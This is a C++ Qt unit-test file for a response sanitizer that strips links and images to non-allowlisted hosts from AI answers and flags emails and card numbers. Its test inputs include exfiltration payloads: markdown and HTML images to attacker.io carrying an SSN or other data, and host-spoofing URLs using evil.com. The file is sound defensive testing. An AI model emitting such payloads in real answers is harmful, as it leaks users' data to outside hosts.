// SPDX-License-Identifier: Apache-2.0
// ResponseSanitizer: links and images to hosts outside the allowlist are removed in every
// form an answer can carry them (markdown, HTML, autolinks, bare URLs); DLP findings.
#include "dlp/ResponseSanitizer.h"

#include <QTest>

using namespace corral::dlp;

namespace {

ResponseSanitizer sanitizer()
{
    SanitizerSettings s;
    s.allowedHosts = {"docs.example.com", "*.corp.example"};
    return ResponseSanitizer(s, DlpScanner());
}

QStringList details(const SanitizedAnswer& r)
{
    QStringList out;
    for (const SanitizerFinding& f : r.findings)
        out << sanitizerIssueName(f.issue) + QLatin1Char(':') + f.detail;
    return out;
}

} // namespace

class TestResponseSanitizer : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void allowedLinksStay();
    void markdownLinkKeepsItsText();
    void markdownImageRemoved();
    void htmlImageRemoved();
    void bareAndAutolinks();
    void hostTricks();
    void linkTextThatIsAUrl();
    void dlpFindings();
};

void TestResponseSanitizer::allowedLinksStay()
{
    const QByteArray text = "See [docs](https://docs.example.com/a?b=1) and ![x](https://img.corp.example/x.png) "
                            "and https://wiki.corp.example/page. Relative ![y](/local.png) too.";
    const SanitizedAnswer r = sanitizer().sanitize(text);
    QCOMPARE(r.text, text);
    QVERIFY(r.findings.isEmpty());
}

void TestResponseSanitizer::markdownLinkKeepsItsText()
{
    const SanitizedAnswer r = sanitizer().sanitize("Read [the report](https://evil.example.net/r?d=c2VjcmV0 \"t\").");
    QCOMPARE(r.text, QByteArray("Read the report."));
    QCOMPARE(details(r), QStringList{"disallowed_link:evil.example.net"});
}

void TestResponseSanitizer::markdownImageRemoved()
{
    // The classic exfiltration: an image whose URL carries the data.
    const SanitizedAnswer r =
        sanitizer().sanitize("Done.![loading](https://attacker.io/p.png?q=SSN%20123-45-6789) Bye.");
    QCOMPARE(r.text, QByteArray("Done. Bye."));
    QCOMPARE(details(r), QStringList{"disallowed_image:attacker.io"});
    QCOMPARE(r.findings[0].byteStart, qsizetype(5));
}

void TestResponseSanitizer::htmlImageRemoved()
{
    const SanitizedAnswer r = sanitizer().sanitize("a <img alt=\"x\" src=\"https://attacker.io/a.png?d=1\" /> b");
    QCOMPARE(r.text, QByteArray("a  b"));
    QCOMPARE(details(r), QStringList{"disallowed_image:attacker.io"});
}

void TestResponseSanitizer::bareAndAutolinks()
{
    const SanitizedAnswer r = sanitizer().sanitize("Go to http://evil.com/x, <https://evil.com/y> or www.evil.com.");
    QCOMPARE(r.text, QByteArray("Go to [link removed], [link removed] or [link removed]."));
    QCOMPARE(details(r),
             (QStringList{"disallowed_link:evil.com", "disallowed_link:evil.com", "disallowed_link:www.evil.com"}));
}

void TestResponseSanitizer::hostTricks()
{
    // User info before '@' is not the host; an allowed name as a sub-domain of another host
    // is that other host; a plain entry does not cover sub-domains; case does not matter.
    const SanitizedAnswer r = sanitizer().sanitize(
        "[a](https://docs.example.com@evil.com/) [b](https://docs.example.com.evil.com/) "
        "[c](https://x.docs.example.com/) [d](HTTPS://DOCS.EXAMPLE.COM/ok) [e](https://corp.example/)");
    QCOMPARE(r.text, QByteArray("a b c [d](HTTPS://DOCS.EXAMPLE.COM/ok) e"));
    QCOMPARE(details(r), (QStringList{"disallowed_link:evil.com", "disallowed_link:docs.example.com.evil.com",
                                      "disallowed_link:x.docs.example.com", "disallowed_link:corp.example"}));
}

void TestResponseSanitizer::linkTextThatIsAUrl()
{
    const SanitizedAnswer r = sanitizer().sanitize("[https://evil.com/a](https://evil.com/a)");
    QCOMPARE(r.text, QByteArray("[link removed]"));
    QCOMPARE(r.findings.size(), 1);
}

void TestResponseSanitizer::dlpFindings()
{
    const SanitizedAnswer r = sanitizer().sanitize("Reach her at ann@example.com; card 4111 1111 1111 1111.");
    QCOMPARE(r.dlpFindings.size(), 2);
    QCOMPARE(r.dlpFindings[0].type, EntityType::Email);
    QCOMPARE(r.dlpFindings[1].type, EntityType::CreditCard);
}

QTEST_GUILESS_MAIN(TestResponseSanitizer)
#include "TestResponseSanitizer.moc"
